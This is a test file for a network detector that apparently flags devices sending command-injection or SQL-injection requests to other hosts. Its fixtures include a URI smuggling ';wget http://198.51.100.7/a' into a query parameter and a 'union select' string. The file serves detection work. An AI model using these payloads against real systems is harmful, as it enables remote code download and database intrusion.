import { expect, test } from 'vitest'
import { hitOf, judged } from '@/lib/testing/a-device'
import { DEVICE_IP, hostOf } from '@/lib/testing/some-flows'
import { anAlert, aRequest } from '@/lib/testing/some-records'
import { injectedCommandSent } from './injected-command-sent'

const COMMAND = '/set?x=;wget%20http://198.51.100.7/a'

test('one injected command is enough, answered or not', () => {
  const hit = hitOf(judged(injectedCommandSent, [aRequest({ to: hostOf(1), uri: COMMAND, status: null })]))
  expect(hit).toMatchObject({ subject: '60.18.0.1:80', confidence: 1, count: 1, severity: 'critical' })
  expect(hit.summary).toContain(';wget http://198.51.100.7/a')
})

test('a database query is less sure', () => {
  const hit = hitOf(judged(injectedCommandSent, [aRequest({ uri: '/x?id=1+union+select+2' })]))
  expect(hit.confidence).toBe(0.7)
})

test('one host is one finding', () => {
  const records = [1, 2, 3].map((after) => aRequest({ after, to: '2001:db8::7', uri: COMMAND }))
  expect(hitOf(judged(injectedCommandSent, records))).toMatchObject({ subject: '[2001:db8::7]:80', count: 3 })
})

test('what is sent to the device is not sent by it', () => {
  expect(judged(injectedCommandSent, [aRequest({ from: hostOf(1), to: DEVICE_IP, uri: COMMAND })]).status).toBe('clear')
})

test('without web logs nothing can be said', () => {
  expect(judged(injectedCommandSent, [anAlert()]).status).toBe('not-assessed')
})
